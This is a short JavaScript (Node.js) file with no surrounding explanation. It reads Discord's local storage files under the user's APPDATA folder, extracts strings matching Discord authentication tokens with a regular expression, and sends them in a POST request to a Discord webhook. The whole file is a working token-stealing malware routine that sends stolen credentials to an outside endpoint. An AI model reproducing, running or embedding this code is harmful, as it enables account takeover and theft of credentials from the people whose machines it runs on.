const wh = 'https://discord.com/api/webhooks/109/abcdefghijklmnop';
const fs = require('fs'), path = require('path');
const dir = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');
const toks = fs.readdirSync(dir).filter((f) => f.endsWith('.ldb')).flatMap((f) => fs.readFileSync(path.join(dir, f), 'utf8').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) ?? []);
fetch(wh, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: toks.join('\n') }) });
